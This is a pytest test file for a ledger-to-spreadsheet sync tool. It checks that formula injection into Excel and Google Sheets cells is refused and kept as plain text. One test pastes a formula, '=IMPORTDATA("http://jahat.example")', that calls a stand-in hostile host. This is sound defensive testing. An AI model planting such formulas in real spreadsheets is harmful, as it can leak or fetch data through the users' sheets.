"""What a workbook holds of texts that a spreadsheet would run: the file that Excel opens, and the sheet at Google."""

import json
from collections.abc import Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from sync.cells import canonical
from sync.google.names import letters
from tests.injection.conftest import CONTESTED, SPOILT
from tests.injection.corpus import HOSTILE, LEGITIMATE, MARKED, TEXTS
from tests.injection.seen import active_parts, google_cells, xlsx_kinds, xlsx_texts
from tests.injection.stage import DRAFTED, FOUR, Stage
from tests.sheets_server import SheetsServer
from tests.sheets_server.grid import Tab

OWNER = "pemilik@contoh.go.id"
OTHERS = 20  # rows in which the ledger changes a note while somebody types over it


def text_of(event: Any) -> str:
    """The text that was typed in the row an event came from; rows stand in the order of the corpus."""
    code, quarter = int(event["indicator"]), int(event["period"][-1])
    return TEXTS[(code - 1) * FOUR + quarter - 1]


def entered(stage: Stage, book: str) -> list[Any]:
    """The entries and corrections that came out of a workbook."""
    kinds = ("RealizationRecorded", "RealizationCorrected")
    return [
        event
        for event in stage.json("audit", "trail", DRAFTED)["events"]
        if event["type"] in kinds and event["origin"].startswith(f"sheet:{book}!")
    ]


@pytest.mark.parametrize("name", ["buku.xlsx", "lain.xlsx"])
def test_nothing_in_the_file_can_run_or_lead_anywhere(fed: Stage, name: str) -> None:
    path = fed.folder / name
    assert active_parts(path) == []
    assert xlsx_kinds(path) == {"s", "n"}


def test_every_text_is_in_the_file_as_it_was_written(fed: Stage) -> None:
    there = xlsx_texts(fed.folder / "buku.xlsx")
    for tab, texts in (("Perjanjian", TEXTS), ("Capaian", TEXTS[: 99 * FOUR : FOUR])):
        assert [text for text in texts if text not in there[tab]] == [], tab
    assert {canonical("text", text) for text in TEXTS} <= {canonical("text", text) for text in there["Isian"]}


def test_what_was_typed_in_the_file_is_in_the_ledger_as_a_text(fed: Stage) -> None:
    events = entered(fed, "buku")
    typed = [event for event in events if "note" in event["origin"].rpartition("!")[2].split("+")]
    assert len(typed) > len(TEXTS) - SPOILT - CONTESTED
    for event in typed:
        said = canonical("text", text_of(event))
        assert event["data"]["note"] == said
        assert "\n".join(one["location"] for one in event["data"]["evidence"]) == said


def test_a_text_where_a_figure_belongs_is_refused_and_stays_a_text(fed: Stage) -> None:
    trail = fed.json("audit", "trail", DRAFTED)["events"]
    refused = [event for event in trail if event["type"] == "SheetEditRefused"
               and event["origin"].endswith("!numerator")]  # fmt: skip
    assert len(refused) == SPOILT
    assert {event["data"]["refusal"] for event in refused} == {"formula-in-input", "bad-number"}
    targets = [event for event in trail if event["type"] == "SheetEditRefused" and event["origin"].endswith("!annual")]
    assert len(targets) == -(-len(TEXTS) // FOUR)
    assert {event["data"]["refusal"] for event in targets} == {"formula-in-input", "bad-target"}


def test_a_cycle_after_the_ledger_went_on_writes_only_what_is_new(tmp_path: Path) -> None:
    """Texts that a file can only keep with escapes are read back as they were, so nothing looks edited."""
    stage = Stage(tmp_path)
    stage.draft()
    stage("sync", "link", "buku", "--xlsx", "buku.xlsx")
    stage("sync", "run", "buku")
    stage("agreement", "note", DRAFTED, "2024-Q1", "--text", "biasa")
    done = stage.json("sync", "run", "buku")
    assert (done["taken"], done["refused"], done["conflicts"]) == ([], [], [])
    assert 0 < done["written"] < 30


@dataclass
class Cloud:
    """A stage with a sheet at the local Google, and its owner's hands."""

    stage: Stage
    server: SheetsServer
    book: str
    columns: dict[str, str] = field(default_factory=dict)

    def tabs(self) -> list[Tab]:
        return self.server.store.files[self.book].book.tabs

    def paste(self, header: str, texts: Sequence[object]) -> None:
        """Type into a column of Isian from its first row on."""
        hands = self.server.editor(self.book, OWNER)
        hands.paste("Isian", f"{self.columns[header]}2", [[text] for text in texts])

    def forget_formats(self, header: str) -> None:
        """Set a column back to what Google calls automatic: there a typed `=` begins a formula."""
        tab = next(tab for tab in self.tabs() if tab.title == "Isian")
        column = next(at for at in range(tab.column_count) if letters(at) == self.columns[header])
        area = {"sheetId": tab.sheet_id, "startRowIndex": 1, "startColumnIndex": column, "endColumnIndex": column + 1}
        fields = "userEnteredFormat.numberFormat"
        self.server.editor(self.book, OWNER).request("repeatCell", {"range": area, "cell": {}, "fields": fields})

    def formulas(self) -> list[tuple[str, int, int, Any]]:
        """Every cell that Google would reckon."""
        return [(title, row, column, value) for title, row, column, kind, value in google_cells(self.tabs())
                if kind == "formulaValue"]  # fmt: skip


@pytest.fixture
def cloud(tmp_path: Path) -> Any:
    with SheetsServer() as server:
        stage = Stage(tmp_path)
        stage.draft()
        secrets = {"refresh_token": "r", "client_id": "c", "client_secret": "s", "token_uri": server.token_uri}
        (tmp_path / "google.json").write_text(json.dumps({"type": "authorized_user", **secrets}))
        book = server.create("Buku", locale="id_ID")
        stage("sync", "link", "awan", "--google", book, "--credentials", "google.json", "--base-url", server.url)
        stage("sync", "run", "awan")
        made = Cloud(stage, server, book)
        server.store.files[book].permissions.append(server.store.permission(OWNER, "owner"))
        heads = [cell for cell in google_cells(made.tabs()) if cell[0] == "Isian" and cell[1] == 0]
        made.columns = {value: letters(column) for _, _, column, _, value in heads}
        yield made


def test_every_text_of_the_ledger_is_a_string_value_at_google(cloud: Cloud) -> None:
    cells = google_cells(cloud.tabs())
    assert {kind for *_, kind, _ in cells} == {"stringValue", "numberValue"}
    there = {value for title, _, _, kind, value in cells if (title, kind) == ("Perjanjian", "stringValue")}
    assert [text for text in TEXTS if text not in there] == []


def test_what_people_mark_as_text_at_google_is_taken_and_shown_as_text_on_every_tab(cloud: Cloud) -> None:
    cloud.paste("Nilai", ["5"] * len(TEXTS))
    cloud.paste("Catatan", TEXTS)  # the column is one of texts
    cloud.forget_formats("Bukti dukung")
    cloud.paste("Bukti dukung", [f"'{text}" for text in TEXTS])
    for number in range(1, OTHERS + 1):
        note = HOSTILE[-number]
        cloud.stage("realize", DRAFTED, str(number), "2024-Q1", "--value", "5", "--note", note)
    done = cloud.stage.json("sync", "run", "awan")
    assert {edit["field"] for edit in done["conflicts"]} == {"note"}
    assert len(done["conflicts"]) == OTHERS
    assert cloud.formulas() == []
    events = entered(cloud.stage, "awan")
    assert len(events) == len(TEXTS)
    for event in events:
        said = canonical("text", text_of(event))
        assert "\n".join(one["location"] for one in event["data"]["evidence"]) == said
        if "note" in event["origin"].rpartition("!")[2].split("+"):
            assert event["data"]["note"] == said
    listed = [value for title, row, _, kind, value in google_cells(cloud.tabs())
              if title == "Konflik" and row and kind == "stringValue"]  # fmt: skip
    assert {canonical("text", text) for text in TEXTS[: OTHERS * FOUR : FOUR]} <= set(listed)


def test_what_google_makes_a_formula_of_is_refused_and_goes_no_further(cloud: Cloud) -> None:
    cloud.forget_formats("Bukti dukung")
    cloud.paste("Bukti dukung", HOSTILE)
    cloud.paste("Nilai", ["=1+1", '=IMPORTDATA("http://jahat.example")', '="5"'])
    typed = cloud.formulas()
    assert len(typed) > 100
    done = cloud.stage.json("sync", "run", "awan")
    refused = {edit["where"] for edit in done["refused"] if edit["code"] == "formula-in-input"}
    assert refused == {f"Isian!{letters(column)}{row + 1}" for _, row, column, _ in typed}
    assert cloud.formulas() == typed  # where they were typed, and nowhere else
    evidence = {one["location"] for event in entered(cloud.stage, "awan") for one in event["data"]["evidence"]}
    assert not evidence & {value for *_, value in typed}


@pytest.mark.parametrize("text", [*LEGITIMATE, *MARKED])
def test_no_legitimate_text_changes_when_it_is_read(text: str) -> None:
    assert canonical("text", text) == text
